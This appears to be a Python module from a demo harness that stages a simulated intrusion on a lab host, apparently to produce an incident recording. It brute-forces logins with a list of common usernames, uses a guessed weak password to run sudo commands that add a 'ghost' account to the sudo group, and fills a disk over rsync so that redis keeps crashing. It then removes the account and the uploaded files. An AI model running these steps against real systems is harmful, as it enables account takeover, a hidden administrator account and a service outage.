"""The incident: an account is guessed, and its new owner fills the disk under a database."""

from __future__ import annotations

import random
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from demo.recording.host import ADDRESS, ATTACKER, DATA, GUESSED, run
from demo.recording.work import Work, log_in_with_password

_TRIED = (
    *("admin", "root", "oracle", "test", "postgres", "ubuntu", "pi", "git", "ftpuser", "guest"),
    *("support", "jenkins", "mysql", "www", "nagios", "tomcat", "minecraft", "teamspeak"),
)
_PAYLOAD = Path("/srv/payload")
_OUTAGE_SECONDS = 25


def strike(work: Work, seed: int) -> None:
    """Let it happen, while normal work goes on where it still can, and clean up."""
    _guess_passwords(seed)
    _take_over()
    _fill_disk()
    deadline = time.monotonic() + _OUTAGE_SECONDS
    while time.monotonic() < deadline:
        # Every write ends redis, which monit starts again.
        run("redis-cli", "-h", ADDRESS, "set", "page1", "x" * 4000, check=False)
        work.browse()
        time.sleep(0.5)
    _clean_up()


def _guess_passwords(seed: int) -> None:
    chance = random.Random(seed)
    attempts = [(user, f"{user}{chance.randint(1, 999)}") for user in chance.choices(_TRIED, k=60)]
    with ThreadPoolExecutor(6) as pool:
        list(pool.map(lambda guess: log_in_with_password(guess[0], guess[1], ATTACKER), attempts))
    if not log_in_with_password(*GUESSED, ATTACKER):
        raise RuntimeError("the weak password was not accepted; the incident would be none")


def _take_over() -> None:
    _, password = GUESSED
    for command in (
        "sudo -S /usr/bin/id",
        "sudo -S /usr/sbin/useradd --create-home --groups sudo ghost",
        "sudo -S /usr/bin/crontab -u ghost -l",
    ):
        log_in_with_password(*GUESSED, ATTACKER, command, text=f"{password}\n")


def _fill_disk() -> None:
    _PAYLOAD.write_bytes(bytes(12 * 1024 * 1024))
    target = f"rsync://{ADDRESS}/uploads/"
    for _ in range(3):
        run("rsync", "--inplace", f"--address={ATTACKER}", str(_PAYLOAD), target, check=False)


def _clean_up() -> None:
    for path in (DATA / "uploads").iterdir():
        path.unlink()
    run("userdel", "--remove", "ghost", check=False)
    deadline = time.monotonic() + 30
    while run("redis-cli", "ping", check=False) and time.monotonic() < deadline:
        time.sleep(0.5)
